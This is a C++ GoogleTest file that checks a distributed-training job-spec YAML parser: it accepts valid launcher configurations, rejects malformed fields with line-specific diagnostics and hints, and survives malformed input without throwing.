#include "ringmaster/job/spec.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "ringmaster/util/closest_match.h"

namespace ringmaster::job {
namespace {

SpecParseResult parse(const std::string& text) { return parseJobSpec(text, "job.yaml"); }

std::string examplePath(const std::string& name) {
  return std::string(RM_SOURCE_DIR) + "/resources/jobs/examples/" + name;
}

// Exactly one error, on `line`, for `field`, whose text names the field and contains `fragment`.
testing::AssertionResult hasSingleError(const std::string& text, int line, const std::string& field,
                                        const std::string& fragment) {
  const SpecParseResult result = parse(text);
  const std::string all = formatDiagnostics(result.errors);
  if (result.ok() || result.spec.has_value()) {
    return testing::AssertionFailure() << "expected an error, but the spec parsed";
  }
  if (result.errors.size() != 1) {
    return testing::AssertionFailure() << "expected 1 error, got " << result.errors.size() << ":\n"
                                       << all;
  }
  const SpecDiagnostic& d = result.errors[0];
  if (d.line != line) {
    return testing::AssertionFailure() << "expected line " << line << ", got:\n" << all;
  }
  if (d.field != field) {
    return testing::AssertionFailure() << "expected field '" << field << "', got:\n" << all;
  }
  const std::string rendered = d.toString();
  if (rendered.find(field) == std::string::npos) {
    return testing::AssertionFailure() << "the text does not name the field: " << rendered;
  }
  if (rendered.find(fragment) == std::string::npos) {
    return testing::AssertionFailure() << "expected '" << fragment << "' in: " << rendered;
  }
  if (d.file != "job.yaml") {
    return testing::AssertionFailure() << "expected file job.yaml, got: " << rendered;
  }
  return testing::AssertionSuccess();
}

const SpecDiagnostic* findError(const SpecParseResult& result, const std::string& field) {
  for (const SpecDiagnostic& d : result.errors) {
    if (d.field == field) return &d;
  }
  return nullptr;
}

// --- valid specs ---

TEST(JobSpec, ParsesTorchrunSpecWithEveryField) {
  const std::string text = R"(# comment line
name: resnet.ddp_v2
launcher: torchrun
command: [python, train.py, --lr, "0.1"]
workdir: /srv/exp
env:
  NCCL_DEBUG: WARN
  OMP_NUM_THREADS: 4
placement:
  - agent: node1
    ranks: 2
  - {agent: node2, ranks: 3}
backend: nccl
restart:
  max_restarts: 2
metrics:
  patterns:
    loss: 'loss=([-+0-9.eE]+)'
    step: 'step (\d+)'
stop_grace_seconds: 0
)";
  const SpecParseResult result = parse(text);
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  const JobSpec& spec = *result.spec;
  EXPECT_EQ(spec.name, "resnet.ddp_v2");
  EXPECT_EQ(spec.launcher, Launcher::kTorchrun);
  EXPECT_EQ(spec.command, (std::vector<std::string>{"python", "train.py", "--lr", "0.1"}));
  EXPECT_EQ(spec.workdir, "/srv/exp");
  ASSERT_EQ(spec.env.size(), 2u);
  EXPECT_EQ(spec.env[0], (std::pair<std::string, std::string>{"NCCL_DEBUG", "WARN"}));
  EXPECT_EQ(spec.env[1], (std::pair<std::string, std::string>{"OMP_NUM_THREADS", "4"}));
  ASSERT_EQ(spec.placement.size(), 2u);
  EXPECT_EQ(spec.placement[0].agent, "node1");
  EXPECT_EQ(spec.placement[0].ranks, 2);
  EXPECT_EQ(spec.placement[0].line, 10);
  EXPECT_EQ(spec.placement[1].agent, "node2");
  EXPECT_EQ(spec.placement[1].ranks, 3);
  EXPECT_EQ(spec.placement[1].line, 12);
  EXPECT_EQ(spec.world_size, 5);
  EXPECT_EQ(spec.backend, Backend::kNccl);
  EXPECT_EQ(spec.restart.max_restarts, 2);
  ASSERT_EQ(spec.metric_patterns.size(), 2u);
  EXPECT_EQ(spec.metric_patterns[0].name, "loss");
  EXPECT_EQ(spec.metric_patterns[0].regex, "loss=([-+0-9.eE]+)");
  EXPECT_EQ(spec.metric_patterns[1].name, "step");
  EXPECT_EQ(spec.metric_patterns[1].regex, "step (\\d+)");
  EXPECT_TRUE(spec.native_yaml.empty());
  EXPECT_EQ(spec.stop_grace_seconds, 0);
  EXPECT_EQ(spec.file, "job.yaml");
  EXPECT_EQ(spec.text, text);
}

TEST(JobSpec, ParsesCommandSpecWithDefaults) {
  const SpecParseResult result = parse(R"(name: hello
launcher: command
command:
  - /bin/echo
  - "two words"
world_size: 3
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  const JobSpec& spec = *result.spec;
  EXPECT_EQ(spec.launcher, Launcher::kCommand);
  EXPECT_EQ(spec.command, (std::vector<std::string>{"/bin/echo", "two words"}));
  EXPECT_TRUE(spec.placement.empty());
  EXPECT_EQ(spec.world_size, 3);
  EXPECT_EQ(spec.world_size_line, 6);
  EXPECT_EQ(spec.backend, Backend::kAuto);
  EXPECT_EQ(spec.restart.max_restarts, 0);
  EXPECT_EQ(spec.stop_grace_seconds, 10);
  EXPECT_TRUE(spec.workdir.empty());
  EXPECT_TRUE(spec.env.empty());
  EXPECT_TRUE(spec.metric_patterns.empty());
}

TEST(JobSpec, ParsesNativeSpecAndKeepsNativeSectionAsYaml) {
  const SpecParseResult result = parse(R"(name: mlp
launcher: native
world_size: 2
backend: gloo
native:
  model: mlp
  hidden: [64, 64]
  optimizer: {name: sgd, lr: 0.1}
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  const JobSpec& spec = *result.spec;
  EXPECT_EQ(spec.launcher, Launcher::kNative);
  EXPECT_TRUE(spec.command.empty());
  EXPECT_EQ(spec.backend, Backend::kGloo);
  EXPECT_EQ(spec.native_line, 5);
  EXPECT_NE(spec.native_yaml.find("model: mlp"), std::string::npos) << spec.native_yaml;
  EXPECT_NE(spec.native_yaml.find("lr: 0.1"), std::string::npos) << spec.native_yaml;
  EXPECT_EQ(spec.native_yaml.find("launcher"), std::string::npos) << spec.native_yaml;
}

TEST(JobSpec, NativeLauncherAcceptsACommand) {
  const SpecParseResult result = parse(R"(name: mlp
launcher: native
command: [ringmaster-worker, --verbose]
world_size: 1
native: {}
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.spec->command.size(), 2u);
}

TEST(JobSpec, AcceptsExplicitEmptyEnvValue) {
  const SpecParseResult result = parse(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  EMPTY: ""
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  ASSERT_EQ(result.spec->env.size(), 1u);
  EXPECT_EQ(result.spec->env[0].second, "");
}

TEST(JobSpec, ADescriptionIsKeptAndBounded) {
  const SpecParseResult result = parse(R"(name: a
description: >-
  what it is,
  and what to try
launcher: command
command: [x]
world_size: 1
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.spec->description, "what it is, and what to try");
  const SpecParseResult long_one =
      parse("name: a\ndescription: " + std::string(kMaxDescriptionBytes + 1, 'x') +
            "\nlauncher: command\ncommand: [x]\nworld_size: 1\n");
  ASSERT_FALSE(long_one.ok());
  EXPECT_EQ(long_one.errors[0].field, "description");
  EXPECT_EQ(long_one.errors[0].line, 2);
  EXPECT_NE(long_one.errors[0].message.find("at most 1000 bytes, got 1001"), std::string::npos);
}

TEST(JobSpec, ExampleSpecsLoadAndParse) {
  for (const char* name : {"torchrun_ddp.yaml", "native_mlp.yaml", "command_script.yaml",
                           "tensorflow_ps.yaml", "deepspeed_train.yaml", "quick_demo.yaml"}) {
    const SpecParseResult result = loadJobSpec(examplePath(name));
    EXPECT_TRUE(result.ok()) << name << ":\n" << formatDiagnostics(result.errors);
    if (result.ok()) {
      EXPECT_EQ(result.spec->file, examplePath(name));
      EXPECT_FALSE(result.spec->text.empty());
    }
  }
  const SpecParseResult torchrun = loadJobSpec(examplePath("torchrun_ddp.yaml"));
  ASSERT_TRUE(torchrun.ok());
  EXPECT_EQ(torchrun.spec->launcher, Launcher::kTorchrun);
  EXPECT_EQ(torchrun.spec->world_size, 4);
  const SpecParseResult native = loadJobSpec(examplePath("native_mlp.yaml"));
  ASSERT_TRUE(native.ok());
  EXPECT_EQ(native.spec->launcher, Launcher::kNative);
}

// --- loading ---

TEST(JobSpec, LoadReportsMissingFileByName) {
  const std::string path = "/nonexistent/dir/job.yaml";
  const SpecParseResult result = loadJobSpec(path);
  EXPECT_FALSE(result.ok());
  EXPECT_FALSE(result.spec.has_value());
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_EQ(result.errors[0].file, path);
  EXPECT_NE(result.errors[0].message.find(path), std::string::npos) << result.errors[0].message;
  EXPECT_NE(result.errors[0].toString().find(path), std::string::npos);
}

TEST(JobSpec, LoadReportsDirectoryByName) {
  const std::string path = std::string(RM_SOURCE_DIR) + "/resources";
  const SpecParseResult result = loadJobSpec(path);
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_NE(result.errors[0].message.find("directory"), std::string::npos);
}

// --- bad specs: one error each, with its line and field ---

TEST(JobSpec, RejectsUnknownKeyWithHint) {
  const std::string text = R"(name: a
launcher: command
command: [x]
worldsize: 2
)";
  EXPECT_TRUE(hasSingleError(text + "world_size: 2\n", 4, "worldsize", "unknown key"));
  const SpecParseResult result = parse(text + "world_size: 2\n");
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_EQ(result.errors[0].hint, "did you mean 'world_size'?");
  EXPECT_EQ(result.errors[0].column, 1);
}

TEST(JobSpec, RejectsUnknownKeyWithAliasHint) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
cwd: /tmp
)";
  EXPECT_TRUE(hasSingleError(text, 5, "cwd", "unknown key 'cwd'"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'workdir'?");
}

TEST(JobSpec, RejectsUnknownKeyListingValidKeysWhenNothingIsClose) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
zzzzzzzz: 1
)";
  EXPECT_TRUE(hasSingleError(text, 5, "zzzzzzzz", "unknown key"));
  EXPECT_NE(parse(text).errors[0].hint.find("stop_grace_seconds"), std::string::npos);
}

TEST(JobSpec, RejectsUnknownKeyInRestart) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
restart:
  max_restart: 3
)";
  EXPECT_TRUE(hasSingleError(text, 6, "restart.max_restart", "unknown key"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'max_restarts'?");
}

TEST(JobSpec, RejectsUnknownKeyInMetrics) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
metrics:
  pattern:
    loss: 'loss=(\d+)'
)";
  EXPECT_TRUE(hasSingleError(text, 6, "metrics.pattern", "unknown key"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'patterns'?");
}

TEST(JobSpec, RejectsUnknownKeyInPlacementEntry) {
  const std::string text = R"(name: a
launcher: command
command: [x]
placement:
  - agent: n1
    ranks: 1
    gpus: 2
)";
  EXPECT_TRUE(hasSingleError(text, 7, "placement[0].gpus", "unknown key"));
  EXPECT_NE(parse(text).errors[0].hint.find("agent, ranks"), std::string::npos);
}

TEST(JobSpec, RejectsStringCommandWithListHint) {
  const std::string text = R"(name: a
launcher: torchrun
command: python train.py
world_size: 1
)";
  EXPECT_TRUE(hasSingleError(text, 3, "command", "expected a list of arguments"));
  EXPECT_EQ(parse(text).errors[0].hint, "write it as a list: [python, train.py]");
}

TEST(JobSpec, RejectsEmptyCommandForTorchrun) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: torchrun
command: []
world_size: 1
)",
                             3, "command", "at least one argument"));
}

TEST(JobSpec, RejectsMissingCommandForCommandLauncher) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
world_size: 1
)",
                             1, "command", "missing"));
}

TEST(JobSpec, RejectsCommandArgumentThatIsAList) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command:
  - python
  - [a, b]
world_size: 1
)",
                             5, "command[1]", "expected a string, got a list"));
}

TEST(JobSpec, RejectsEmptyCommandItemOnItsOwnLine) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command:
  - python
  -
  - train.py
world_size: 1
)",
                             5, "command[1]", "expected a string, got nothing"));
}

TEST(JobSpec, RejectsEmptyPlacementItemOnItsOwnLine) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  - agent: n1
    ranks: 1
  -
  - {agent: n2, ranks: 2}
)",
                             7, "placement[1]", "expected a mapping {agent: NAME, ranks: N}"));
}

TEST(JobSpec, RejectsFloatRanks) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  - agent: n1
    ranks: 2.5
)",
                             6, "placement[0].ranks", "expected a positive integer, got '2.5'"));
}

TEST(JobSpec, RejectsZeroRanks) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  - agent: n1
    ranks: 1
  - {agent: n2, ranks: 0}
)",
                             7, "placement[1].ranks", "expected a positive integer, got '0'"));
}

TEST(JobSpec, RejectsNegativeRanks) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  - agent: n1
    ranks: -2
)",
                             6, "placement[0].ranks", "got '-2'"));
}

TEST(JobSpec, RejectsNonNumericWorldSize) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: abc
)",
                             4, "world_size", "expected a positive integer, got 'abc'"));
}

TEST(JobSpec, RejectsQuotedInteger) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: "4"
)";
  EXPECT_TRUE(hasSingleError(text, 4, "world_size", "quoted string '4'"));
  EXPECT_EQ(parse(text).errors[0].hint, "remove the quotes");
}

TEST(JobSpec, RejectsIntegerTooLargeForInt) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 99999999999
)",
                             4, "world_size", "too large"));
}

TEST(JobSpec, RejectsWorldSizeThatIsAList) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: [1, 2]
)",
                             4, "world_size", "got a list"));
}

TEST(JobSpec, RejectsBothPlacementAndWorldSize) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement: [{agent: n1, ranks: 1}]
world_size: 1
)",
                             5, "world_size", "both placement and world_size"));
}

TEST(JobSpec, RejectsNeitherPlacementNorWorldSize) {
  EXPECT_TRUE(hasSingleError(R"(# a comment first
name: a
launcher: command
command: [x]
)",
                             2, "placement", "neither placement nor world_size"));
}

TEST(JobSpec, RejectsPlacementGivenAsMapping) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  n1: 2
)",
                             5, "placement", "expected a list"));
}

TEST(JobSpec, RejectsEmptyPlacement) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement: []
)",
                             4, "placement", "at least one"));
}

TEST(JobSpec, RejectsPlacementEntryWithoutAgent) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
placement:
  - ranks: 2
)",
                             5, "placement[0].agent", "missing"));
}

TEST(JobSpec, RejectsDuplicateAgentInPlacement) {
  const std::string text = R"(name: a
launcher: command
command: [x]
placement:
  - {agent: n1, ranks: 1}
  - {agent: n2, ranks: 1}
  - {agent: n1, ranks: 2}
)";
  EXPECT_TRUE(hasSingleError(text, 7, "placement[2].agent", "listed twice"));
  EXPECT_NE(parse(text).errors[0].message.find("line 5"), std::string::npos);
}

TEST(JobSpec, RejectsRelativeWorkdir) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
workdir: runs/today
)",
                             5, "workdir", "expected an absolute path, got 'runs/today'"));
}

TEST(JobSpec, ReadsThePythonInterpreterAndRejectsARelativePath) {
  const SpecParseResult result = parse(R"(name: a
launcher: torchrun
command: [train.py]
world_size: 1
python: /opt/conda/envs/train/bin/python
)");
  ASSERT_TRUE(result.errors.empty()) << result.errors[0].message;
  EXPECT_EQ(result.spec->python, "/opt/conda/envs/train/bin/python");
  EXPECT_EQ(
      parse("name: a\nlauncher: torchrun\ncommand: [t.py]\nworld_size: 1\npython: python3.11\n")
          .spec->python,
      "python3.11");
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: torchrun
command: [train.py]
world_size: 1
python: envs/bin/python
)",
                             5, "python",
                             "expected an absolute path or a program name, got 'envs/bin/python'"));
}

TEST(JobSpec, RejectsInvalidRegex) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
metrics:
  patterns:
    loss: 'loss=([0-9'
)",
                             7, "metrics.patterns.loss", "invalid regular expression"));
}

TEST(JobSpec, RejectsRegexWithoutCaptureGroup) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
metrics:
  patterns:
    loss: 'loss=[0-9.]+'
)";
  EXPECT_TRUE(hasSingleError(text, 7, "metrics.patterns.loss", "no capture group"));
  EXPECT_NE(parse(text).errors[0].hint.find("group 1"), std::string::npos);
}

TEST(JobSpec, RejectsMetricPatternsGivenAsList) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
metrics:
  patterns: ['loss=(\d+)']
)",
                             6, "metrics.patterns", "expected a mapping"));
}

TEST(JobSpec, RejectsBadMetricName) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
metrics:
  patterns:
    9lives: 'x=(\d+)'
)",
                             7, "metrics.patterns.9lives", "expected a metric name"));
}

TEST(JobSpec, RejectsUnknownLauncherListingValidOnes) {
  const std::string text = R"(name: a
launcher: torch
command: [x]
world_size: 1
)";
  EXPECT_TRUE(hasSingleError(text, 2, "launcher",
                             "one of native, torchrun, command, tensorflow, deepspeed"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'torchrun'?");
}

TEST(JobSpec, TensorflowRolesAreReadWithTheirLauncher) {
  const auto result = parse(
      "name: tf\nlauncher: tensorflow\ncommand: [train.py]\nworld_size: 4\n"
      "tensorflow: {chief: true, ps: 1}\n");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.spec->launcher, Launcher::kTensorflow);
  EXPECT_TRUE(result.spec->tensorflow.chief);
  EXPECT_EQ(result.spec->tensorflow.ps, 1);
  const auto plain = parse("name: ds\nlauncher: deepspeed\ncommand: [train.py]\nworld_size: 2\n");
  ASSERT_TRUE(plain.ok()) << formatDiagnostics(plain.errors);
  EXPECT_EQ(plain.spec->launcher, Launcher::kDeepspeed);
  EXPECT_FALSE(plain.spec->tensorflow.chief);
}

TEST(JobSpec, TensorflowRolesThatLeaveNoWorkerAreNamed) {
  EXPECT_TRUE(
      hasSingleError("name: tf\nlauncher: tensorflow\ncommand: [t.py]\nworld_size: 2\n"
                     "tensorflow: {chief: true, ps: 1}\n",
                     5, "tensorflow", "leaving no worker"));
  EXPECT_TRUE(hasSingleError(
      "name: tf\nlauncher: tensorflow\ncommand: [t.py]\nworld_size: 2\ntensorflow: {ps: -1}\n", 5,
      "tensorflow.ps", "non-negative integer"));
  EXPECT_TRUE(hasSingleError(
      "name: tf\nlauncher: tensorflow\ncommand: [t.py]\nworld_size: 2\ntensorflow: {cheif: true}\n",
      5, "tensorflow.cheif", "unknown key"));
  EXPECT_TRUE(hasSingleError(
      "name: tf\nlauncher: torchrun\ncommand: [t.py]\nworld_size: 2\ntensorflow: {ps: 1}\n", 5,
      "tensorflow", "only used with launcher 'tensorflow'"));
}

TEST(JobSpec, RejectsUnknownBackendListingValidOnes) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
backend: mpi
)",
                             5, "backend", "expected one of auto, nccl, gloo, got 'mpi'"));
}

TEST(JobSpec, ReportsYamlSyntaxErrorLine) {
  const SpecParseResult result = parse(R"(name: a
launcher: command
command: [x, y
world_size: 1
)");
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_GE(result.errors[0].line, 3);
  EXPECT_LE(result.errors[0].line, 4);
  EXPECT_NE(result.errors[0].message.find("YAML syntax error"), std::string::npos);
}

TEST(JobSpec, ReportsBadIndentationAsSyntaxErrorOnItsLine) {
  const SpecParseResult result = parse("name: a\nlauncher: command\n  world_size: 1\n");
  ASSERT_EQ(result.errors.size(), 1u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].line, 3);
  EXPECT_NE(result.errors[0].toString().find("job.yaml:3:"), std::string::npos);
}

// Found by tests/fuzz/spec_fuzz: yaml-cpp 0.7's LoadAll() never returned (and allocated until
// the OOM killer came) for a document that starts with a ','.
TEST(JobSpec, ReportsStrayCommaAsSyntaxErrorInsteadOfHanging) {
  EXPECT_TRUE(hasSingleError(",", 1, "", "YAML syntax error: unexpected ','"));
  EXPECT_TRUE(hasSingleError(", name: a\n", 1, "", "unexpected ','"));
  EXPECT_TRUE(hasSingleError("name: a\n---\n,\n", 3, "", "unexpected ','"));
}

TEST(JobSpec, RejectsEmptyFile) {
  EXPECT_TRUE(hasSingleError("", 1, "", "empty"));
  EXPECT_TRUE(hasSingleError("# just a comment\n\n", 1, "", "empty"));
}

TEST(JobSpec, RejectsTopLevelList) {
  EXPECT_TRUE(hasSingleError("\n- name: a\n- launcher: command\n", 2, "", "top level"));
}

TEST(JobSpec, RejectsTopLevelScalar) {
  EXPECT_TRUE(hasSingleError("just some words\n", 1, "", "got 'just some words'"));
}

TEST(JobSpec, RejectsMultipleDocuments) {
  EXPECT_TRUE(hasSingleError("name: a\n---\nname: b\n", 3, "", "2 YAML documents"));
}

TEST(JobSpec, RejectsDuplicateEnvName) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  FOO: 1
  BAR: 2
  FOO: 3
)";
  EXPECT_TRUE(hasSingleError(text, 8, "env.FOO", "duplicate key 'FOO'"));
  EXPECT_NE(parse(text).errors[0].message.find("line 6"), std::string::npos);
}

TEST(JobSpec, RejectsDuplicateTopLevelKey) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
name: b
)",
                             5, "name", "duplicate key 'name' (first given on line 1)"));
}

TEST(JobSpec, RejectsReservedEnvNameWithHintThatRingmasterSetsIt) {
  const std::string text = R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  OK_VAR: 1
  MASTER_PORT: 29500
)";
  EXPECT_TRUE(hasSingleError(text, 7, "env.MASTER_PORT", "reserved"));
  EXPECT_NE(parse(text).errors[0].hint.find("Ringmaster sets"), std::string::npos);
}

TEST(JobSpec, RejectsReservedEnvPrefix) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env: {TORCHELASTIC_RUN_ID: x}
)",
                             5, "env.TORCHELASTIC_RUN_ID", "reserved"));
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  RINGMASTER_JOB: x
)",
                             6, "env.RINGMASTER_JOB", "reserved"));
}

TEST(JobSpec, RejectsInvalidEnvName) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  MY-VAR: 1
)",
                             6, "env.MY-VAR", "expected a variable name"));
}

TEST(JobSpec, RejectsEnvGivenAsList) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  - FOO=1
)",
                             6, "env", "expected a mapping"));
}

TEST(JobSpec, RejectsEnvValueThatIsAList) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  PATHS: [a, b]
)",
                             6, "env.PATHS", "expected a string, got a list"));
}

TEST(JobSpec, RejectsEnvWithoutValue) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
env:
  FOO:
)",
                             6, "env.FOO", "got nothing"));
}

TEST(JobSpec, RejectsNativeSectionWithOtherLauncher) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: torchrun
command: [x]
world_size: 1
native:
  model: mlp
)",
                             5, "native", "only used with launcher 'native'"));
}

TEST(JobSpec, RejectsNativeLauncherWithoutNativeSection) {
  EXPECT_TRUE(hasSingleError(R"(name: a
world_size: 1
launcher: native
)",
                             3, "native", "missing"));
}

TEST(JobSpec, RejectsNativeSectionThatIsNotAMapping) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: native
world_size: 1
native: [mlp]
)",
                             4, "native", "expected a mapping"));
}

TEST(JobSpec, RejectsInvalidJobName) {
  EXPECT_TRUE(hasSingleError(R"(launcher: command
name: my job
command: [x]
world_size: 1
)",
                             2, "name", "got 'my job'"));
}

TEST(JobSpec, RejectsJobNameLongerThan64Characters) {
  EXPECT_TRUE(hasSingleError("name: " + std::string(65, 'x') + R"(
launcher: command
command: [x]
world_size: 1
)",
                             1, "name", "1-64 characters"));
}

TEST(JobSpec, RejectsMissingName) {
  EXPECT_TRUE(hasSingleError(R"(launcher: command
command: [x]
world_size: 1
)",
                             1, "name", "missing"));
}

TEST(JobSpec, RejectsMissingLauncher) {
  EXPECT_TRUE(hasSingleError(R"(name: a
command: [x]
world_size: 1
)",
                             1, "launcher", "missing"));
}

TEST(JobSpec, RejectsNegativeMaxRestarts) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
restart: {max_restarts: -1}
)",
                             5, "restart.max_restarts", "non-negative integer"));
}

TEST(JobSpec, ParsesTheWholeRestartPolicy) {
  const SpecParseResult result = parse(R"(name: a
launcher: command
command: [x]
world_size: 4
restart: {max_restarts: 3, backoff_seconds: 0.5, hang_timeout_seconds: 20, min_nodes: 1,
          exclude_failed_hosts: true, on_hang: fail}
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  const RestartPolicy& policy = result.spec->restart;
  EXPECT_EQ(policy.on_hang, "fail");
  EXPECT_EQ(policy.max_restarts, 3);
  EXPECT_DOUBLE_EQ(policy.backoff_seconds, 0.5);
  EXPECT_DOUBLE_EQ(policy.hang_timeout_seconds, 20);
  EXPECT_EQ(policy.min_nodes, 1);
  EXPECT_TRUE(policy.exclude_failed_hosts);
}

TEST(JobSpec, RejectsBadRestartValuesNamingEach) {
  const SpecParseResult result = parse(R"(name: a
launcher: command
command: [x]
world_size: 4
restart:
  backoff_seconds: -1
  hang_timeout_seconds: soon
  min_nodes: 0
  exclude_failed_hosts: 1
)");
  ASSERT_EQ(result.errors.size(), 4u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].field, "restart.backoff_seconds");
  EXPECT_EQ(result.errors[0].line, 6);
  EXPECT_NE(result.errors[0].message.find("seconds >= 0"), std::string::npos);
  EXPECT_EQ(result.errors[1].field, "restart.hang_timeout_seconds");
  EXPECT_EQ(result.errors[2].field, "restart.min_nodes");
  EXPECT_NE(result.errors[2].message.find("positive integer"), std::string::npos);
  EXPECT_EQ(result.errors[3].field, "restart.exclude_failed_hosts");
  EXPECT_NE(result.errors[3].message.find("true or false"), std::string::npos);
}

TEST(JobSpec, RejectsAnUnknownHangActionWithASuggestion) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
restart: {on_hang: warm}
)",
                             5, "restart.on_hang", "did you mean 'warn'?"));
}

TEST(JobSpec, RejectsRestartGivenAsNumber) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
restart: 3
)",
                             5, "restart", "expected a mapping {max_restarts: N, ...}"));
}

TEST(JobSpec, RejectsNegativeStopGraceSeconds) {
  EXPECT_TRUE(hasSingleError(R"(name: a
launcher: command
command: [x]
world_size: 1
stop_grace_seconds: -5
)",
                             5, "stop_grace_seconds", "non-negative integer"));
}

// --- all errors at once ---

TEST(JobSpec, ReportsAllThreeErrorsAtOnce) {
  const SpecParseResult result = parse(R"(name: ok
launcher: command
command: [x]
world_size: 0
backend: tcp
workdir: relative
)");
  EXPECT_FALSE(result.spec.has_value());
  ASSERT_EQ(result.errors.size(), 3u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].field, "world_size");
  EXPECT_EQ(result.errors[0].line, 4);
  EXPECT_EQ(result.errors[1].field, "backend");
  EXPECT_EQ(result.errors[1].line, 5);
  EXPECT_EQ(result.errors[2].field, "workdir");
  EXPECT_EQ(result.errors[2].line, 6);
}

TEST(JobSpec, ReportsEveryErrorInFileOrder) {
  const SpecParseResult result = parse(R"(name: bad name
launcher: torch
command: python x.py
env: {RANK: 1, FOO: [1]}
placement:
  - {agent: n1, ranks: 0}
  - agent: n2
world_size: 2
stop_grace_seconds: soon
extra: 1
)");
  ASSERT_FALSE(result.ok());
  for (const char* field :
       {"name", "launcher", "command", "env.RANK", "env.FOO", "placement[0].ranks",
        "placement[1].ranks", "world_size", "stop_grace_seconds", "extra"}) {
    EXPECT_NE(findError(result, field), nullptr) << field << "\n"
                                                 << formatDiagnostics(result.errors);
  }
  for (size_t i = 1; i < result.errors.size(); ++i) {
    EXPECT_LE(result.errors[i - 1].line, result.errors[i].line);
  }
}

// --- robustness ---

TEST(JobSpec, NeverThrowsOnHostileInput) {
  const std::vector<std::string> inputs = {
      std::string(10000, '['),
      "a: &x [*x]\n",
      "name: *missing\n",
      "? [a, b]\n: c\n",
      std::string("name: \0\x01\xff\n", 11),
      "launcher: {a: [b, {c: d}]}\ncommand: {x: y}\nplacement: [1, [2], {agent: [a]}]\n",
      "metrics: {patterns: {loss: '(a*)*b{99999999999}'}}\n",
      "\t- x\n",
  };
  for (const std::string& input : inputs) {
    SpecParseResult result;
    EXPECT_NO_THROW(result = parse(input));
    EXPECT_FALSE(result.ok()) << input;
    EXPECT_FALSE(result.errors.empty()) << input;
  }
}

TEST(JobSpec, NonScalarKeyIsAnError) {
  const SpecParseResult result = parse(R"(name: a
launcher: command
command: [x]
world_size: 1
[a, b]: 1
)");
  ASSERT_EQ(result.errors.size(), 1u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].line, 5);
  EXPECT_NE(result.errors[0].message.find("plain name as key"), std::string::npos);
}

// --- diagnostics ---

